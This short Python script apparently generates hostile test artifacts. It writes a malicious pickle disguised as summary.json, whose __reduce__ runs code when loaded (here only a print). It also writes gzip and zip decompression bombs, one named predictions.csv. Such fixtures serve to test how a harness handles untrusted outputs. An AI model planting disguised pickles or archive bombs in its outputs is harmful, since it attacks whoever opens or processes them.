"""Artifacts: archives that are small here and huge once opened, and a pickle with the name of a report.

Attacks whoever opens, unpacks or unpickles what a run left.
"""

import gzip
import pickle
import zipfile

PIECE = bytes(1 << 20)


class Evil:
    def __reduce__(self):
        return (print, ("opened",))


with open("out/summary.json", "wb") as file:
    file.write(pickle.dumps(Evil()))
with gzip.open("out/predictions.csv", "wb", compresslevel=1) as bomb:
    for _ in range(200):
        bomb.write(PIECE)
with zipfile.ZipFile("out/bomb.zip", "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
    with archive.open("x", "w") as bomb:
        for _ in range(100):
            bomb.write(PIECE)
